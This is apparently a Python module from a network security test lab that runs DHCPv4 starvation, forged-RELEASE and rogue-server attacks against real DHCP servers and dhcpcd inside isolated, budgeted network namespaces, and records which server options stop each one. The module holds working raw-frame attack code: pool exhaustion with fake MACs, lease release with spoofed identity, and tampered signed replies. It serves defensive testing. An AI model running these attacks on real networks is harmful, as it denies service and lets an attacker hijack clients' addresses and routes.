"""DHCPv4 threats against real peers, in network namespaces (`threatlab live ID --peer NAME`).

Every run is one bridged LAN (`lan(3, adversary=SAME_LAN)`): h1 (10.0.0.1/24) runs the server, h2
and h3 are clients without an address, adv (10.0.0.200) is the attacker. The attacker only injects
raw frames through an `Injector` (budgeted, interlocked: broadcast or addresses of the run) and
reads the LAN through a packet socket of its own namespace. Every file a peer writes lives in a
temporary directory; the namespaces go at the end.

- `starvation`: made-up clients (chaddr 02:ee:..) DISCOVER and REQUEST until the pool is empty;
  then a real client (udhcpc; dhcpcd with a key for threatlab's client-auth) tries.
- `forged_release`: a real client (udhcpc) gets the only address of a pool of one; the attacker
  hears its broadcast REQUEST and sends a RELEASE with its MAC, address and server id (nothing
  else); the lease store is read, and a second client asks for an address.
- `rogue_refusal`: dhcpcd with RFC 3118 delayed authentication and `threatlab serve dhcp` holding
  the key, on a hub; the rogue has the LAN to itself for the first ROGUE_ALONE_S seconds of each
  dhcpcd run (the real server starts after that, and stops after it), so dhcpcd sees its answers
  first. It answers (a) unsigned, (b) with a modified copy of a signed OFFER/ACK it heard from the
  real server in (a) (dhcpcd's new xid, the rogue's yiaddr; the HMAC left as it was).
"""

from __future__ import annotations

import secrets
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

from threatlab.dhcp import peers as P
from threatlab.dhcp.wire import (
    BOOTREPLY,
    BOOTREQUEST,
    BROADCAST_FLAG,
    CLIENT_PORT,
    SERVER_PORT,
    DhcpMessage,
    DhcpMessageType,
    IpAddressLeaseTime,
    MessageType,
    ParameterRequestList,
    RequestedIpAddress,
    ServerIdentifier,
    SubnetMask,
)
from threatlab.errors import LiveError, LiveSafetyError, ParamError
from threatlab.live.inject import BudgetExhausted, Injector
from threatlab.live.namespaces import LiveNetwork, require_root
from threatlab.net.build import lan
from threatlab.net.topology import SegmentKind
from threatlab.net.wire import ETH_P_IP, IPPROTO_UDP, UDP, Ethernet, IPv4, mac_bytes

SERVER, VICTIM, SECOND, ADV = "h1", "h2", "h3", "adv"
SERVER_IP = IPv4Address("10.0.0.1")
SUBNET = "10.0.0.0/24"
POOL_FIRST = IPv4Address("10.0.0.100")
ROGUE_ADDRESS = IPv4Address("10.0.0.250")
ROGUE_ALONE_S = 5.0  # s the rogue has the LAN to itself before the real server starts
AUTH_KEY_ID, AUTH_KEY = 17, "threatlab-live-key"
SERVERS = ("dnsmasq", "kea", "threatlab")
SOL_PACKET, PACKET_IGNORE_OUTGOING = 263, 23
_BCAST = IPv4Address("255.255.255.255")
_ZERO = IPv4Address(0)


# --------------------------------------------------------------------------- frames


def _frame(msg: DhcpMessage, src_mac: bytes, *, src: IPv4Address = _ZERO, dst: IPv4Address = _BCAST,
           dst_mac: bytes = b"\xff" * 6, sport: int = CLIENT_PORT, dport: int = SERVER_PORT) -> bytes:
    udp = UDP(sport, dport, msg.encode()).encode(src, dst)
    return Ethernet(dst_mac, src_mac, ETH_P_IP, IPv4(src, dst, IPPROTO_UDP, udp).encode()).encode()


def _parse(frame: bytes) -> tuple[bytes, DhcpMessage] | None:
    """(source MAC, message) of a DHCP message in an Ethernet/IPv4/UDP frame, else None."""
    if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[23] != IPPROTO_UDP:
        return None
    ihl = (frame[14] & 0x0F) * 4
    u = 14 + ihl
    ports = (int.from_bytes(frame[u:u + 2], "big"), int.from_bytes(frame[u + 2:u + 4], "big"))
    if ports not in ((CLIENT_PORT, SERVER_PORT), (SERVER_PORT, CLIENT_PORT)):
        return None
    try:
        return frame[6:12], DhcpMessage.decode(frame[u + 8:])
    except Exception:  # noqa: BLE001 - not ours to judge: anything undecodable is skipped
        return None


class Listener:
    """The attacker's packet socket on adv's eth0 (every IPv4 frame on the LAN it can hear)."""

    def __init__(self, net: LiveNetwork) -> None:
        sock = net.socket(ADV, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        try:
            sock.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
        except OSError:
            pass
        sock.bind(("eth0", ETH_P_IP))
        self.sock = sock

    def recv(self, timeout: float) -> tuple[bytes, DhcpMessage] | None:
        self.sock.settimeout(max(timeout, 0.001))
        try:
            return _parse(self.sock.recv(4096))
        except (TimeoutError, socket.timeout):
            return None


def _mtype(msg: DhcpMessage) -> int | None:
    t = msg.message_type
    return None if t is None else int(t)


def _mac(b: bytes) -> str:
    return ":".join(f"{x:02x}" for x in b[:6])


# --------------------------------------------------------------------------- the LAN and the servers


class _Run:
    """One LAN, a temporary directory, the attacker's injector and listener; closes everything."""

    def __init__(self, budget_packets: int, budget_seconds: float, kind: SegmentKind = SegmentKind.SWITCH) -> None:
        require_root()
        from threatlab.net.topology import Position

        self._tmp = tempfile.TemporaryDirectory(prefix="threatlab-dhcp-live-")
        self.dir = Path(self._tmp.name)
        self.net = LiveNetwork(lan(3, kind, adversary=Position.SAME_LAN))
        self.budget_packets, self.budget_seconds = budget_packets, budget_seconds

    def __enter__(self) -> _Run:
        try:
            self.net.open()
            for host in (VICTIM, SECOND):
                self.net.exec(host, ["ip", "-4", "addr", "flush", "dev", "eth0"], check=True)
            self.inj = Injector(self.net, ADV, "eth0", self.budget_packets, self.budget_seconds)
            self.listener = Listener(self.net)
        except BaseException:
            self.__exit__()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        self.net.close()
        self._tmp.cleanup()

    def start_server(self, peer: str, first: IPv4Address, last: IPv4Address, lease_time: int,
                     extra: Mapping[str, Any] | None = None) -> Callable[[], dict[IPv4Address, str]]:
        """Start `peer` in h1 serving first-last; returns a function reading its lease store."""
        extra = dict(extra or {})
        d = self.dir / peer
        if peer == "dnsmasq":
            self.server = P.start_dnsmasq(self.net, SERVER, d, iface="eth0", first=str(first), last=str(last),
                                          netmask=P.netmask(SUBNET), lease_time=lease_time, **extra)
            reader = lambda: P.dnsmasq_leases(d)  # noqa: E731
            ready = lambda: (d / "dnsmasq.log").exists() and "DHCP, IP range" in (d / "dnsmasq.log").read_text()  # noqa: E731
        elif peer == "kea":
            self.server = P.start_kea(self.net, SERVER, d, iface="eth0", subnet=SUBNET, first=str(first),
                                      last=str(last), lease_time=lease_time, **extra)
            reader = lambda: P.kea_leases(d)  # noqa: E731
            ready = lambda: (d / "kea.log").exists() and "DHCP4_STARTED" in (d / "kea.log").read_text()  # noqa: E731
        elif peer == "threatlab":
            self.server = P.start_threatlab(self.net, SERVER, d, iface="eth0", first=str(first), last=str(last),
                                            lease_time=lease_time, sync="normal", ready_timeout=30, **extra)
            reader = lambda: P.threatlab_leases(d / "leases.sqlite")  # noqa: E731
            ready = lambda: True  # noqa: E731
        else:
            raise ParamError(f"unknown DHCP server peer {peer!r} (known: {', '.join(SERVERS)})")
        self.server_dir = d
        try:
            P.wait_for(lambda: ready() or self.server.poll() is not None, 30, f"{peer} to start")
        except LiveError:
            pass  # some builds log differently: go on, the exchange itself shows whether it serves
        if self.server.poll() is not None:
            err = "".join(p.read_text()[-1500:] for p in d.glob("*.err")) if d.exists() else ""
            raise LiveError(f"{peer} exited {self.server.returncode} at start: {err}")
        time.sleep(0.3)
        return reader

    def server_log(self) -> str:
        return "".join(p.read_text() for p in sorted(self.server_dir.glob("*.log")))

    def client(self, host: str, name: str, sub: str, **kw: Any):
        """Start a real client in `host`: udhcpc (kw: tries, quit) or dhcpcd (kw: conf, timeout)."""
        d = self.dir / sub
        if name == "udhcpc":
            tries, quit_ = kw.get("tries", 3), kw.get("quit", True)
            c = P.Client("udhcpc", "udhcpc", lambda dd, b: P.udhcpc_argv(dd, b, tries=tries, quit_on_failure=quit_),
                         P.UDHCPC_HOOK)
        else:
            conf, timeout = kw.get("conf", ""), kw.get("timeout", 30)
            c = P.Client("dhcpcd", "dhcpcd", lambda dd, b: P.dhcpcd_argv(dd, b, conf, timeout), P.DHCPCD_HOOK)
        return P.start_client(self.net, host, c, d), d

    def wait_address(self, host: str, proc, timeout: float) -> IPv4Address | None:
        """The address `host` gets within `timeout` s (None if its client gives up or time runs out)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            a = P.address_of(self.net, host, prefix=24)
            if a is not None:
                return a
            if proc.poll() is not None:
                return P.address_of(self.net, host, prefix=24)
            time.sleep(0.1)
        return None


def _need(*tools: str) -> None:
    missing = [t for t in tools if P.tool(t) is None]
    if missing:
        raise LiveError(f"not installed: {', '.join(missing)}")


def _pool(first: IPv4Address, n: int) -> IPv4Address:
    return first + (n - 1)


# --------------------------------------------------------------------------- starvation

STARVATION_OPTIONS = {
    "dnsmasq": (
        "Run with no-ping: by default dnsmasq pings each address before offering it and, here, answered "
        "nothing else for seconds meanwhile (a slower starvation, and a slower service for everyone). "
        "dnsmasq 2.90 has no per-client, per-port or rate limit. dhcp-lease-max caps the total number "
        "of leases: the attacker takes them all the same. One lease per MAC is built in and does not "
        "bind on made-up MACs. What stops it: an allow-list, dhcp-host=<MAC> for each known client + "
        "dhcp-ignore=tag:!known (--defense client-auth here): made-up MACs get nothing; a forger who "
        "copies a known MAC can still take that client's address."
    ),
    "kea": (
        "Kea 2.2 has no rate or per-client limit (the limits hook arrived in later versions). One "
        "lease per client is built in. What stops it: host reservations plus a pool restricted to "
        "client class KNOWN (--defense client-auth here): clients without a reservation get nothing."
    ),
    "threatlab": (
        "`threatlab serve dhcp` exposes no rate, per-client or per-circuit (option 82) limit on its "
        "command line (the simulator has them). It has RFC 3118: --auth-key with the mutual "
        "paradigm (--defense client-auth here) drops every unauthenticated DISCOVER; the real "
        "client is then dhcpcd with the key."
    ),
}
_STARVATION_SUPPORTED = {"client-auth"}


def _take_leases(run: _Run, deadline: float, max_clients: int, window: int = 8, client_timeout: float = 4.0,
                 stall: float = 3.0) -> dict[str, Any]:
    """Made-up clients DISCOVER/REQUEST, `window` at a time, until no lease came for `stall` s."""
    inj, lis = run.inj, run.listener
    prl = ParameterRequestList((1, 3, 6, 51, 54))
    pending: dict[int, list] = {}  # xid -> [mac, started, offered]
    leases: dict[IPv4Address, str] = {}
    started = offers = naks = lost = 0
    t0 = time.monotonic()
    last_lease = t0
    stopped = ""
    base = secrets.randbits(16) << 16
    while True:
        now = time.monotonic()
        if now >= deadline:
            stopped = "time budget"
            break
        if now - last_lease > stall:
            stopped = f"no lease for {stall:g} s"
            break
        try:
            while len(pending) < window and started < max_clients:
                started += 1
                mac = bytes((0x02, 0xEE)) + (base | started).to_bytes(4, "big")
                xid = base | started
                msg = DhcpMessage(op=BOOTREQUEST, xid=xid, flags=BROADCAST_FLAG, chaddr=mac,
                                  options=(DhcpMessageType(MessageType.DISCOVER), prl))
                inj.send(_frame(msg, mac))
                pending[xid] = [mac, time.monotonic(), False]
            got = lis.recv(0.05)
            if got is not None:
                _, msg = got
                tr = pending.get(msg.xid)
                if msg.op == BOOTREPLY and tr is not None:
                    t = _mtype(msg)
                    if t == MessageType.OFFER and not tr[2]:
                        tr[2] = True
                        offers += 1
                        sid = msg.server_id or SERVER_IP
                        req = DhcpMessage(op=BOOTREQUEST, xid=msg.xid, flags=BROADCAST_FLAG, chaddr=tr[0],
                                          options=(DhcpMessageType(MessageType.REQUEST), ServerIdentifier(sid),
                                                   RequestedIpAddress(msg.yiaddr), prl))
                        inj.send(_frame(req, tr[0]))
                    elif t == MessageType.ACK and tr[2]:
                        leases[msg.yiaddr] = _mac(tr[0])
                        del pending[msg.xid]
                        last_lease = time.monotonic()
                    elif t == MessageType.NAK:
                        naks += 1
                        del pending[msg.xid]
        except BudgetExhausted:
            stopped = "time budget (injector)"
            break
        except LiveSafetyError:  # the next frame would exceed the packet budget: collect what is owed
            stopped = "packet budget"
            end = min(deadline, time.monotonic() + 1.0)
            while time.monotonic() < end:
                got = lis.recv(0.05)
                if got and got[1].op == BOOTREPLY and _mtype(got[1]) == MessageType.ACK:
                    tr = pending.pop(got[1].xid, None)
                    if tr is not None and tr[2]:
                        leases[got[1].yiaddr] = _mac(tr[0])
                        last_lease = time.monotonic()
            break
        now = time.monotonic()
        for xid in [x for x, tr in pending.items() if now - tr[1] > client_timeout]:
            del pending[xid]
            lost += 1
        if started >= max_clients and not pending:
            stopped = "all made-up clients tried"
            break
    return {"leases": leases, "clients": started, "offers": offers, "naks": naks, "unanswered": lost,
            "stopped": stopped, "time_to_last_lease_s": round(last_lease - t0, 2) if leases else None}


def starvation(peer: str, params: Mapping[str, Any], defenses: frozenset[str], *, budget_packets: int,
               budget_seconds: float) -> dict[str, Any]:
    """`threatlab live dhcp.starvation --peer dnsmasq|kea|threatlab`."""
    unsupported = sorted(set(defenses) - _STARVATION_SUPPORTED)
    if unsupported:
        raise ParamError(f"dhcp.starvation live against {peer}: {', '.join(unsupported)} is not an option "
                         f"this server offers. {STARVATION_OPTIONS.get(peer, '')}")
    pool_size = int(params.get("pool_size", 20))
    auth = "client-auth" in defenses
    client_name = "dhcpcd" if (peer == "threatlab" and auth) else "udhcpc"
    _need({"dnsmasq": "dnsmasq", "kea": "kea-dhcp4", "threatlab": "ip"}[peer], client_name)
    first, last = POOL_FIRST, _pool(POOL_FIRST, pool_size)
    with _Run(budget_packets, budget_seconds) as run:
        victim_mac = run.net.mac_of(VICTIM, "eth0")
        extra: dict[str, Any] = {}
        if peer == "dnsmasq":
            extra.update(lease_max=pool_size, ping=False)  # see STARVATION_OPTIONS: ping stalls the run
            if auth:
                extra["extra"] = (f"dhcp-host={victim_mac}", "dhcp-ignore=tag:!known")
        elif peer == "kea" and auth:
            extra = {"pool_class": "KNOWN", "reservations": [{"hw-address": victim_mac, "hostname": "known-client"}]}
        elif peer == "threatlab" and auth:
            extra = {"extra": ("--auth-protocol", "1", "--auth-key", f"{AUTH_KEY_ID}:{AUTH_KEY}",
                               "--auth-paradigm", "mutual")}
        leases_of = run.start_server(peer, first, last, lease_time=3600, extra=extra)
        t_start = time.monotonic()
        deadline = t_start + budget_seconds * 0.98
        took = _take_leases(run, deadline, max_clients=min(4 * pool_size + 16, budget_packets))
        held = leases_of()
        attacker_held = sum(1 for mac in held.values() if mac.startswith("02:ee:"))
        # the real client comes after the attacker
        if client_name == "dhcpcd":
            conf = f'clientid\nauthprotocol delayed\nauthtoken {AUTH_KEY_ID} "" forever "{AUTH_KEY}"\n'
            proc, cdir = run.client(VICTIM, "dhcpcd", "real-client", conf=conf, timeout=12)
            address = run.wait_address(VICTIM, proc, 15)
        else:
            proc, cdir = run.client(VICTIM, "udhcpc", "real-client", tries=3, quit=True)
            address = run.wait_address(VICTIM, proc, 15)
        P.stop(proc, 5)
        log = run.server_log()
        result = {
            "success": address is None,
            "server": peer,
            "pool_size": pool_size,
            "leases_taken_by_attacker": len(took["leases"]),
            "attacker_leases_in_server_store": attacker_held,
            "time_to_exhaustion_s": took["time_to_last_lease_s"] if len(took["leases"]) >= pool_size else None,
            "time_to_last_attacker_lease_s": took["time_to_last_lease_s"],
            "made_up_clients": took["clients"],
            "attacker_packets": run.inj.sent,
            "attack_stopped_by": took["stopped"],
            "real_client": client_name,
            "real_client_lease": str(address) if address else "none (denied)",
            "defenses": ", ".join(sorted(defenses)) or "none",
            "server_logged_no_address": any(s in log for s in ("no address available", "ALLOC_FAIL", "no free")),
            "server_options": STARVATION_OPTIONS[peer],
        }
        return result


# --------------------------------------------------------------------------- forged release

RELEASE_OPTIONS = {
    "dnsmasq": ("dnsmasq checks only that the RELEASE names the lease's MAC (and client id if sent) and its "
                "server id; it has no option to check the source or authenticate clients. Its ping "
                "before offering (on here, the default) did not keep the freed address from the second "
                "client while the victim still held it."),
    "kea": ("Kea 2.2 frees the lease for a RELEASE whose chaddr (or client id) matches; no option "
            "checks the source or authenticates. No ping check: the freed address goes to the next client."),
    "threatlab": ("`threatlab serve dhcp` frees a lease for a RELEASE matching its chaddr/client id; "
                  "with --auth-key (mutual) it drops unauthenticated messages (--defense client-auth)."),
}


def forged_release(peer: str, params: Mapping[str, Any], defenses: frozenset[str], *, budget_packets: int,
                   budget_seconds: float) -> dict[str, Any]:
    """`threatlab live dhcp.forged-release --peer dnsmasq|kea|threatlab`."""
    unsupported = sorted(set(defenses) - ({"client-auth"} if peer == "threatlab" else set()))
    if unsupported:
        raise ParamError(f"dhcp.forged-release live against {peer}: {', '.join(unsupported)} is not an option "
                         f"this server offers. {RELEASE_OPTIONS[peer]}")
    auth = "client-auth" in defenses
    spoof = bool(params.get("spoof_source", False))
    client_name = "dhcpcd" if auth else "udhcpc"
    _need({"dnsmasq": "dnsmasq", "kea": "kea-dhcp4", "threatlab": "ip"}[peer], client_name)
    first = last = POOL_FIRST  # a pool of one: the second client can only get the victim's address
    conf = f'clientid\nauthprotocol delayed\nauthtoken {AUTH_KEY_ID} "" forever "{AUTH_KEY}"\n'
    with _Run(budget_packets, budget_seconds) as run:
        extra = {"extra": ("--auth-protocol", "1", "--auth-key", f"{AUTH_KEY_ID}:{AUTH_KEY}")} if auth else {}
        leases_of = run.start_server(peer, first, last, lease_time=600, extra=extra)
        # the victim, heard by the attacker: its broadcast REQUEST names its MAC, address and server
        heard: dict[str, Any] = {}
        stop_listening = threading.Event()

        def listen() -> None:
            while not stop_listening.is_set():
                got = run.listener.recv(0.1)
                if got and got[1].op == BOOTREQUEST and _mtype(got[1]) == MessageType.REQUEST:
                    m = got[1]
                    if m.requested_ip or m.ciaddr != _ZERO:
                        heard.update(mac=m.chaddr[:6], address=m.requested_ip or m.ciaddr,
                                     server_id=m.server_id or SERVER_IP)

        th = threading.Thread(target=listen, daemon=True)
        th.start()
        if auth:
            victim, _ = run.client(VICTIM, "dhcpcd", "victim", conf=conf)
        else:
            victim, _ = run.client(VICTIM, "udhcpc", "victim", tries=5, quit=True)
        address = run.wait_address(VICTIM, victim, 20)
        time.sleep(0.5)
        stop_listening.set()
        th.join()
        if address is None:
            raise LiveError(f"the victim got no lease from {peer}: {run.server_log()[-1500:]}")
        before = leases_of()
        if not heard:  # the server's ACK, or our own view of the victim, as a fallback
            heard = {"mac": mac_bytes(run.net.mac_of(VICTIM, "eth0")), "address": address, "server_id": SERVER_IP}
        run.net.allow(str(heard["address"]))
        rel = DhcpMessage(op=BOOTREQUEST, xid=secrets.randbits(32), ciaddr=heard["address"], chaddr=heard["mac"],
                          options=(DhcpMessageType(MessageType.RELEASE), ServerIdentifier(heard["server_id"])))
        src = heard["address"] if spoof else IPv4Address("10.0.0.200")
        frame = _frame(rel, mac_bytes(run.net.mac_of(ADV, "eth0")), src=src, dst=heard["server_id"],
                       dst_mac=mac_bytes(run.net.mac_of(SERVER, "eth0")), sport=CLIENT_PORT)
        run.inj.send(frame)
        try:
            freed = bool(P.wait_for(lambda: heard["address"] not in leases_of(), 5, "the lease to go"))
        except LiveError:
            freed = False
        after = leases_of()
        # a second client asks for an address
        second, _ = run.client(SECOND, "udhcpc", "second", tries=3, quit=True)
        second_address = run.wait_address(SECOND, second, 15)
        P.stop(second, 5)
        P.stop(victim, 5)
        return {
            "success": freed,
            "server": peer,
            "victim": f"{_mac(heard['mac'])} {heard['address']} (server id {heard['server_id']})",
            "victim_lease_before": str(heard["address"] in before),
            "lease_freed_in_store": freed,
            "leases_in_store_after": ", ".join(f"{a} {m}" for a, m in sorted(after.items())) or "none",
            "release_source": f"{src} ({'spoofed victim address' if spoof else 'attacker address'})",
            "attacker_packets": run.inj.sent,
            "second_client_lease": str(second_address) if second_address else "none",
            "second_client_got_victims_address": second_address == heard["address"],
            "defenses": ", ".join(sorted(defenses)) or "none",
            "server_options": RELEASE_OPTIONS[peer],
        }


# --------------------------------------------------------------------------- rogue server vs dhcpcd


def _rogue_reply(req: DhcpMessage, mtype: MessageType, yiaddr: IPv4Address) -> DhcpMessage:
    return DhcpMessage(op=BOOTREPLY, xid=req.xid, flags=req.flags, yiaddr=yiaddr, chaddr=req.chaddr,
                       options=(DhcpMessageType(mtype), ServerIdentifier(IPv4Address("10.0.0.200")),
                                IpAddressLeaseTime(3600), SubnetMask(IPv4Address("255.255.255.0"))))


def _tampered(signed: DhcpMessage, req: DhcpMessage, yiaddr: IPv4Address) -> DhcpMessage:
    """The real server's signed reply, made to answer `req` (its xid) with the rogue's address; option 90,
    and its HMAC, left as the real server computed it."""
    return replace(signed, xid=req.xid, yiaddr=yiaddr, flags=req.flags)


def rogue_refusal(params: Mapping[str, Any], defenses: frozenset[str], *, budget_packets: int,
                  budget_seconds: float) -> dict[str, Any]:
    """`threatlab live dhcp.rogue-server-refusal --peer dhcpcd`."""
    _need("dhcpcd")
    conf = f'clientid\nauthprotocol delayed\nauthtoken {AUTH_KEY_ID} "" forever "{AUTH_KEY}"\n'
    pool_last = _pool(POOL_FIRST, 10)
    out: dict[str, Any] = {"server": "threatlab serve dhcp --auth-protocol 1 --auth-key 17:... (mutual)",
                           "client": "dhcpcd authprotocol delayed, authtoken 17"}
    with _Run(budget_packets, budget_seconds, kind=SegmentKind.HUB) as run:
        server_extra = {"extra": ("--auth-protocol", "1", "--auth-key", f"{AUTH_KEY_ID}:{AUTH_KEY}")}
        victim_mac = mac_bytes(run.net.mac_of(VICTIM, "eth0"))
        rogue_mac = mac_bytes(run.net.mac_of(ADV, "eth0"))
        signed: dict[int, DhcpMessage] = {}  # OFFER/ACK from the real server, heard on the hub
        outcomes = []
        for variant in ("unsigned", "tampered"):
            sent = {"n": 0, "OFFER": 0, "ACK": 0}
            stop_ev = threading.Event()

            def rogue(variant: str = variant, sent: dict = sent, stop_ev: threading.Event = stop_ev) -> None:
                while not stop_ev.is_set():
                    got = run.listener.recv(0.1)
                    if not got:
                        continue
                    src, m = got
                    t = _mtype(m)
                    if m.op == BOOTREPLY and src != rogue_mac and t in (MessageType.OFFER, MessageType.ACK) \
                            and m.authentication is not None:
                        signed.setdefault(t, m)
                        continue
                    if m.op != BOOTREQUEST or m.chaddr[:6] != victim_mac:
                        continue
                    reply_type = {MessageType.DISCOVER: MessageType.OFFER, MessageType.REQUEST: MessageType.ACK}.get(t)
                    if reply_type is None:
                        continue
                    if variant == "unsigned":
                        reply = _rogue_reply(m, reply_type, ROGUE_ADDRESS)
                    elif reply_type in signed:
                        reply = _tampered(signed[reply_type], m, ROGUE_ADDRESS)
                    else:
                        continue
                    try:
                        run.inj.send(_frame(reply, rogue_mac, src=IPv4Address("10.0.0.200"), sport=SERVER_PORT,
                                            dport=CLIENT_PORT))
                        sent["n"] += 1
                        sent[reply_type.name] += 1
                    except (BudgetExhausted, LiveSafetyError):  # budget spent: the rogue falls silent
                        return

            th = threading.Thread(target=rogue, daemon=True)
            th.start()
            # the rogue alone first: whatever dhcpcd takes in these seconds can only be the rogue's
            proc, cdir = run.client(VICTIM, "dhcpcd", f"dhcpcd-{variant}", conf=conf, timeout=30)
            early = run.wait_address(VICTIM, proc, ROGUE_ALONE_S)
            run.start_server("threatlab", POOL_FIRST, pool_last, lease_time=600, extra=server_extra)
            address = early or run.wait_address(VICTIM, proc, 25)
            if not early:
                time.sleep(1.0)  # late rogue copies, if any, reach dhcpcd too
            P.stop(run.server, 20)  # leases stay in its database; the next variant starts it again
            stop_ev.set()
            th.join()
            P.stop(proc, 10)
            log = (cdir / "client.log").read_text()
            refusals = [ln.strip() for ln in log.splitlines()
                        if "authentic" in ln.lower() or "no authentication" in ln.lower()
                        or "replay" in ln.lower()]
            real = address is not None and POOL_FIRST <= address <= pool_last
            outcomes.append((variant, address, real, sent["n"], refusals))
            out[f"{variant}_rogue_frames"] = f"{sent['n']} ({sent['OFFER']} OFFER, {sent['ACK']} ACK)"
            out[f"{variant}_dhcpcd_bound_to"] = (f"{address} (real server)" if real else
                                                 f"{address} (ROGUE)" if address else "nothing")
            out[f"{variant}_dhcpcd_refusals"] = len(refusals)
            out[f"{variant}_dhcpcd_log"] = "\n".join(refusals[:6]) or "(no refusal logged)"
            run.net.exec(VICTIM, ["ip", "-4", "addr", "flush", "dev", "eth0"], check=True)
        refused_both = all(real and n > 0 and refusals for _, _, real, n, refusals in outcomes)
        out["refused_both"] = refused_both
        out["attacker_packets"] = run.inj.sent
        out["success"] = not all(real for _, _, real, _, _ in outcomes)  # the attack's success
        return out


# --------------------------------------------------------------------------- catalogue hooks


def peer_function(kind: str, peer: str) -> Callable[..., dict[str, Any]]:
    """The `Threat.peers` function for `kind` (starvation, forged-release, rogue) against `peer`."""
    def run(params: Mapping[str, Any], defenses: frozenset[str], *, budget_packets: int,
            budget_seconds: float) -> dict[str, Any]:
        if kind == "starvation":
            return starvation(peer, params, defenses, budget_packets=budget_packets, budget_seconds=budget_seconds)
        if kind == "forged-release":
            return forged_release(peer, params, defenses, budget_packets=budget_packets,
                                  budget_seconds=budget_seconds)
        return rogue_refusal(params, defenses, budget_packets=budget_packets, budget_seconds=budget_seconds)

    run.__name__ = f"live_{kind.replace('-', '_')}_{peer}"
    return run
